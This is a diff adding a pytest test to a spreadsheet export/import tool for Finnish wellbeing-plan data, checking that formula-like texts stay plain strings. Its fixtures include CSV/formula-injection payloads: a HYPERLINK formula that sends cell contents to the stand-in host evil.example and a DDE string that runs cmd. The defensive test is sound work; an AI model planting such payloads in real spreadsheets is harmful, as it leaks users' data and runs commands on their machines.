@@ -12,7 +12,8 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from helpers import REPO, copy_root, run_cli
+import yaml
+from helpers import MINIMAL, REPO, copy_root, run_cli
 from openpyxl import load_workbook
 
 from cooperation.load.sources import load_sources
@@ -434,3 +435,40 @@ def test_changed_values_are_replaced_in_place_in_any_layout():
     changed = update(SAMPLE, old, new)
     assert changed.startswith("# a comment the import keeps\nid: x  # and this one\n")
     assert pyyaml.safe_load(changed) == new
+
+
+# --- the big sheets' rows, written as XML by the export --------------------------------------------------------
+FORMULA_LIKE = {  # (id, heading or field) → a text a spreadsheet would take for a formula, and XML's own characters
+    ("HYTE-1", "Teksti (suomeksi)"): '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
+    ("HYTE-1-T1", "Teksti (suomeksi)"): "+1+cmd|' /C calc'!A0",
+    ("HYTE-1-M1", "Teksti (suomeksi)"): "-2+3 <b> & </b>",
+    ("hyte", "description"): "@SUM(1,2)\n toinen rivi ",
+}
+
+
+def test_texts_that_look_like_formulas_stay_texts_and_come_back_unchanged(tmp_path):
+    root = copy_root(MINIMAL, tmp_path / "repo")
+    hyte = root / "subareas" / "hyte.yaml"
+    data = yaml.safe_load(hyte.read_text(encoding="utf-8"))
+    data["description"] = FORMULA_LIKE[("hyte", "description")]
+    data["goals"][0]["title"] = FORMULA_LIKE[("HYTE-1", "Teksti (suomeksi)")]
+    data["goals"][0]["actions"][0]["title"] = FORMULA_LIKE[("HYTE-1-T1", "Teksti (suomeksi)")]
+    data["goals"][0]["indicators"][0]["name"] = FORMULA_LIKE[("HYTE-1-M1", "Teksti (suomeksi)")]
+    hyte.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "start")
+    book = export(root, tmp_path / "out")
+    with zipfile.ZipFile(book) as archive:
+        sheets = {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets.values())
+    places = {**cells(book, "Työkirja"), **cells(book, "Kaikki tiedot")}
+    opened = load_workbook(book)
+    for (item, column), text in FORMULA_LIKE.items():
+        sheet = "Kaikki tiedot" if column == "description" else "Työkirja"
+        cell = opened[sheet][places[(item, column)]]
+        assert (cell.value, cell.data_type) == (text, "s"), (item, column)
+    assert opened["Työkirja"].auto_filter.ref == f"A1:F{opened['Työkirja'].max_row}"
+    done = import_(book, root)
+    assert done.returncode == 0, done.stderr
+    assert git(root, "status", "--porcelain") == ""
